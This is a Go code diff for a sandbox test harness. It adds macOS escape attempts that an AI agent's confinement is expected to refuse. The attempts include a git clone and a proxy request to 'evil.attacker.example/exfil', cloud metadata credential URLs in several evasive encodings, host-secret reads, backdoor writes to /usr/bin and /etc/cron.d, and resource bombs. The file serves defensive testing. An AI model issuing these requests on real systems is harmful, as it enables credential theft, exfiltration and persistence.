@@ -36,9 +36,7 @@ func attempts(secret, canary, udpCanary string) []attempt {
 	spin := payloadAttempt("infinite loop (ASI09)", capJudge("infinite loop (ASI09)", "cpu", "cpu", "wall"), "spin")
 	spin.slow = true
 	return []attempt{
-		{name: "git clone https://attacker.example/repo through run_tests", tool: "run_tests",
-			command: "git", args: []string{"clone", "https://attacker.example/repo"},
-			judge: commandJudge("git clone https://attacker.example/repo through run_tests")},
+		gitClone(),
 		spin,
 		payloadAttempt("direct TCP socket to the host's loopback "+canary, refusedJudge("direct TCP socket to the host's loopback "+canary, "landlock + netns"), "connect", canary),
 		payloadAttempt("direct UDP datagram to the host's loopback "+udpCanary, refusedJudge("direct UDP datagram to the host's loopback "+udpCanary, "network namespace"), "udp-send", udpCanary),
@@ -57,6 +55,49 @@ func attempts(secret, canary, udpCanary string) []attempt {
 		payloadAttempt("read a host secret "+secret, refusedJudge("read a host secret "+secret, "filesystem view"), "read-file", secret),
 		payloadAttempt("write outside the workspace: /usr/bin/backdoor", refusedJudge("write outside the workspace: /usr/bin/backdoor", "filesystem view"), "write-file", "/usr/bin/backdoor"),
 		payloadAttempt("write outside the workspace: /etc/cron.d/backdoor", refusedJudge("write outside the workspace: /etc/cron.d/backdoor", "filesystem view"), "write-file", "/etc/cron.d/backdoor"),
+	}
+}
+
+// gitClone is lab phase 5's first attempt: a command the gate refuses.
+func gitClone() attempt {
+	const name = "git clone https://attacker.example/repo through run_tests"
+	return attempt{name: name, tool: "run_tests", command: "git", args: []string{"clone", "https://attacker.example/repo"},
+		judge: commandJudge(name)}
+}
+
+// macAttempts is the demo's script on macOS, played by the Mac's payloads
+// (payload/mac.go, the macOS battery's): the same attempts wherever a Mac
+// has the mechanism, judged the same way, with Seatbelt where Linux has
+// namespaces and Landlock. Left out, as the Mac has no such control for
+// them to meet: UDP and routes (Seatbelt allows the proxy's port alone,
+// and the TCP attempts show it), SOCKS5 (the proxy is the same), and the
+// fork bomb (RLIMIT_NPROC counts the user's processes, not the
+// sandbox's: the macOS battery judges it, docs/sandbox.md, "macOS").
+func macAttempts(secret, canary, home string) []attempt {
+	get := func(name, url, want string) attempt {
+		return payloadAttempt(name, egressJudge(name, want), "mac-get", url)
+	}
+	refused := func(name, how string, args ...string) attempt {
+		return payloadAttempt(name, refusedJudge(name, how), args...)
+	}
+	const hold = "a command that never ends (ASI09)"
+	forever := payloadAttempt(hold, capJudge(hold, "wall", "wall"), "mac-hold")
+	forever.slow = true
+	return []attempt{
+		gitClone(),
+		forever,
+		refused("direct TCP socket to the host's loopback "+canary, "seatbelt (network: the proxy's port only)", "mac-connect", canary),
+		refused("around the proxy (NO_PROXY=*) to the host's loopback "+canary, "seatbelt (network: the proxy's port only)", "mac-get-noproxy", "http://"+canary+"/"),
+		get("proxy to evil.attacker.example", "http://evil.attacker.example/exfil", "denied by default"),
+		get("proxy to 169.254.169.254", "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "always blocked"),
+		get("proxy to 0xA9FEA9FE (hex)", "http://0xA9FEA9FE/latest/meta-data/", "always blocked"),
+		get("proxy to [::ffff:169.254.169.254] (IPv4-mapped IPv6)", "http://[::ffff:169.254.169.254]/latest/meta-data/", "always blocked"),
+		get("proxy to metadata.google.internal", "http://metadata.google.internal/computeMetadata/v1/", "always blocked"),
+		payloadAttempt("proxy to search.example-corp.net (allowlisted for web_search)", allowedJudge("proxy to search.example-corp.net (allowlisted for web_search)"), "mac-get", "http://search.example-corp.net/"),
+		payloadAttempt("memory bomb", capJudge("memory bomb", "memory", "memory"), "mac-membomb"),
+		refused("read a host secret "+secret, "seatbelt (file reads)", "mac-read", secret),
+		refused("write outside the copies: the user's home "+home, "seatbelt (file writes)", "mac-write", home),
+		refused("write outside the copies: the host's /private/tmp", "seatbelt (file writes)", "mac-write", "/private/tmp"),
 	}
 }
 
